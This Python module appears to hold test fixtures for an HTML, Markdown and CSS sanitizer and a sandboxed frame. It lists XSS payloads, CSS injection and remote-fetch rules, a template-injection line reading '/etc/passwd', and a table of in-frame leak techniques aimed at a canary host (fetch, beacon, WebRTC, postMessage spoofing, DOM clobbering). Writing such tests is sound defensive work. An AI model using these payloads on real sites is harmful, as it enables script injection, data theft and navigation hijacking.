"""Attack strings, each of which would set `window.hit`, load something, navigate or submit if it came through."""

from __future__ import annotations

HIT = "window.hit=1"

STRINGS = (
    f"<script>{HIT}</script>",
    f"</script><script>{HIT}</script>",
    f"</style><script>{HIT}</script>",
    f"</title><script>{HIT}</script>",
    f"</textarea><img src=x onerror={HIT}>",
    f'"><img src=x onerror="{HIT}">',
    f"'><svg/onload={HIT}>",
    f"<img src=x onerror={HIT}>",
    f"<body onload={HIT}>",
    f"<details open ontoggle={HIT}><summary>x</summary></details>",
    f"<a href=javascript:{HIT} id=press>press</a>",
    f"<a href='java\tscript:{HIT}'>press</a>",
    f"<a href='data:text/html,<script>parent.{HIT}</script>'>press</a>",
    "<a href='//example.invalid/x'>press</a> <a href='\\\\example.invalid\\x'>press</a>",
    f"[press](javascript:{HIT})",
    f"[press](<java\nscript:{HIT}>)",
    f"![x](x){{onerror={HIT}}}",
    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
    "<iframe src='https://example.invalid/frame'></iframe>",
    "<object data='https://example.invalid/object'></object><embed src='https://example.invalid/embed'>",
    "<meta http-equiv=refresh content='0;url=https://example.invalid/'>",
    "<base href='https://example.invalid/'>",
    "<link rel=stylesheet href='https://example.invalid/x.css'>",
    "<style>@import 'https://example.invalid/x.css'; body{display:none}</style>",
    "<style>* {display: none} p {position: fixed; background: \\75rl(https://example.invalid/x)}</style><p>x</p>",
    "<p style='position:fixed;inset:0;background:url(https://example.invalid/x)'>cover</p>",
    "<form action='https://example.invalid/'><input name=q autofocus><button>go</button></form>",
    "<img src='https://example.invalid/pixel.png' alt='pixel'>",
    "![pixel](https://example.invalid/pixel.png)",
    "<img srcset='https://example.invalid/pixel.png 2x' src=''>",
    "<picture><source srcset='https://example.invalid/pixel.png'></picture>",
    "<video poster='https://example.invalid/p.png' src='https://example.invalid/v'></video>",
    "<table background='https://example.invalid/x'><tr><td>x</table>",
    f"<svg><script>{HIT}</script><a xlink:href='javascript:{HIT}'><text y=20>x</text></a></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={HIT}></style></mglyph></table></mtext></math>",
    f"<math href='javascript:{HIT}'><mi>x</mi></math>",
    f"<noscript><p title='</noscript><img src=x onerror={HIT}>'></noscript>",
    f"<template><script>{HIT}</script></template>",
    "<a id=top name=top></a><img name=getElementById><form name=querySelectorAll id=main></form>",
    "<a id=contents href=#>x</a><p id=F1>taken</p><p id=findings>taken</p>",
    "<p class='banner answer tools' data-copy data-theme-switch data-picture>dressed up</p>",
    f"$\\text{{<img src=x onerror={HIT}>}}$",
    f'![$\\text{{" onerror={HIT} x="}}$](x.png)',
    f"$$\\href{{javascript:{HIT}}}{{x}}$$",
    f"<h1 title='><img src=x onerror={HIT}>'>x</h1>",
    f"<h1><a title='</h1><img src=x onerror={HIT}>'>x</a></h1>",
    f"<p title='x id=' lang='onclick={HIT} '>x</p><p title='x src=' lang=' onerror={HIT} '>x</p>",
    f"<img alt='x\" onerror=\"{HIT}' src='data:image/png;base64,xx'>",
    "{{ 7 * 7 }} {% raw %} {{ config }} {% include '/etc/passwd' %}",
    "\x1b]8;;javascript:window.hit=1\x07link\x1b]8;;\x07 \x1b[31mred\x1b[0m \x1b[38;2;1;2;3mx\x1b[0m",
    "\ud800 \x00 \x0b half a character",
    "<!--><script>window.hit=1</script>-->",
    "<![CDATA[<script>window.hit=1</script>]]>",
    "<?xml version='1.0'?><script>window.hit=1</script>",
    "<x-widget onclick=window.hit=1 contenteditable>x</x-widget>",
)

CSS = (
    "</style><script>window.hit=1</script>",
    "@import 'https://example.invalid/x.css'; p {color: red}",
    "@import url(//example.invalid/x.css);",
    "@font-face {font-family: x; src: url(https://example.invalid/f)} p {font-family: x}",
    "p {background: url(https://example.invalid/x)}",
    "p {background: \\75rl(https://example.invalid/x); color: red}",
    "p {background: u\\72l('https://example.invalid/x')}",
    "p {background-image: image-set('https://example.invalid/x' 1x)}",
    "p {list-style: url(https://example.invalid/x); cursor: url(https://example.invalid/x), auto}",
    "p {width: expression(window.hit=1); behavior: url(#x); -moz-binding: url(https://example.invalid/x#y)}",
    "p {position: fixed; inset: 0; z-index: 99; width: 100vw; height: 100vh; background: red}",
    "p {color: red} } body {display: none} .x {color: red}",
    "} body {display: none} p {",
    "color: red} body {display: none",
    "body, html, :root, main, #main, #top {display: none}",
    "html * {display: none !important}",
    ":root {--ink: red; --paper: red; color-scheme: dark}",
    "* {display: none !important}",
    "p ~ *, p + * {display: none}",
    ":has(p) {display: none} :is(body) {display: none} :not(p) {display: none}",
    "a[href^='h'] {background: url(https://example.invalid/?h)}",
    "#findings, .answer, .tools, .notebook {display: none}",
    "@media all {body {display: none}} @layer x {body {display: none}} @scope (html) {body {display: none}}",
    "@keyframes x {from {left: 0}} p {animation: x 1s; transition: all 1s}",
    "p::before {content: 'x'; position: fixed} ::selection {color: red}",
    "p {color: red; /* } body {display: none} */}",
    "p {color: 'a\n} body {display: none} b'}",
    "<!-- body {display: none} -->",
    "p {" * 300,
    "p {color: rgb(" + "(" * 3000,
    "p {margin: -9999px; transform: scale(99); font-size: 9999px; padding: 9999px; border: 9999px solid red}",
)
"""Styles, each of which would fetch something or change what is not its own if it came through."""

SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{HIT}'><script>{HIT}</script><rect width='9' height='9'/></svg>"

# What a script in a frame may try; `U` is an address that notes who calls.
LEAKS = {
    "fetch": "fetch(U)", "xhr": "x=new XMLHttpRequest();x.open('GET',U);x.send()",
    "beacon": "navigator.sendBeacon(U,1)",
    "socket": "new WebSocket(U.replace('http','ws'))", "events": "new EventSource(U)", "image": "new Image().src=U",
    "style": "put('<link rel=stylesheet href='+U+'>')", "paint": "document.body.style.background=`url(${U})`",
    "font": "new FontFace('x',`url(${U})`).load()", "audio": "new Audio(U).play()", "import": "import(U)",
    "hints": "for(const r of ['prefetch','preload','modulepreload','dns-prefetch','preconnect','icon','manifest'])"
             "put(`<link rel=${r} as=image href=${U}>`)",
    "form": "put(`<form action=${U}></form>`);document.forms[0].submit()",
    "ping": "put(`<a id=q ping=${U} href=#x>x</a>`);q.click()",
    "object": "put(`<object data=${U}></object><embed src=${U}><video src=${U} poster=${U}></video>`)",
    "svg": "put(`<svg><image href=${U} /><use href=${U}#x /></svg>`)",
    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('${U}')`])))",
    "script": "s=document.createElement('script');s.src=U;document.head.append(s)",
    "written": "s=document.createElement('script');s.textContent='fetch(U)';document.head.append(s)",
    "eval": "eval('fetch(U)')",
    "calls": "p=new RTCPeerConnection({iceServers:[{urls:'turn:'+U.slice(7)+'?transport=tcp',username:'a',credential:"
             "'b'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))",
    "calls of a nested frame": "f=document.createElement('iframe');document.body.append(f);"
                               "new f.contentWindow.RTCPeerConnection()",
    "hoisted": "p=new RTCPeerConnection({iceServers:[{urls:'turn:'+U.slice(7)+'?transport=tcp',username:'a',credential:"
               "'b'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o));"
               "function Object(){} var self, globalThis",
    "speculation": "put(`<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"${U}\"]}]}</` + 'script>')",
    "window": "open(U);open(U,'_top')", "top link": "put(`<a id=q target=_top href=${U}>x</a>`);q.click()",
    "blank link": "put(`<a id=q target=_blank href=${U}>x</a>`);q.click()",
    "parent": "parent.hit=1", "parent's DOM": "parent.document.body.innerHTML=''",
    "storage": "localStorage.x=parent.hit=1",
    "parent's address": "parent.location=U", "top's address": "top.location=U", "its hash": "parent.location.hash='x'",
    "history": "history.pushState(1,'',U)", "dialog": "alert(1);confirm(1);print()",
    "download": "a=document.createElement('a');a.href=URL.createObjectURL(new Blob(['x']));a.download='x';a.click()",
    "messages that lie": "for(const height of [1e9,-5,NaN,'9','<b>'])parent.postMessage({rtkit:'height',height},'*');"
                         "for(const m of [null,1,'x',{rtkit:{}},{scheme:'dark'},[]])parent.postMessage(m,'*')",
    "clobbering": "put('<a id=rtkit></a><form id=parent><img name=postMessage></form>')",
}  # fmt: skip
LEAVING = {
    "address": "location=U", "data": "location='data:text/html,<img src='+U+'>'", "refresh": "put(`<meta "
    "http-equiv=refresh content='0;url=${U}'>`)",
    "blob": "location=URL.createObjectURL(new Blob([1],{type:'text/html'}))",
    "link": "put(`<a id=q href=${U}>x</a>`);setTimeout(()=>{location=q.href})", "blank": "location='about:blank'",
}  # fmt: skip


def in_a_frame(script: str, address: str) -> str:
    """HTML whose own script tries something."""
    put = "const put=h=>document.body.insertAdjacentHTML('beforeend',h)"
    return f"<p>x</p><script>{{const U='{address}';{put};try{{{script}}}catch(e){{console.log(e.name)}}}}</script>"
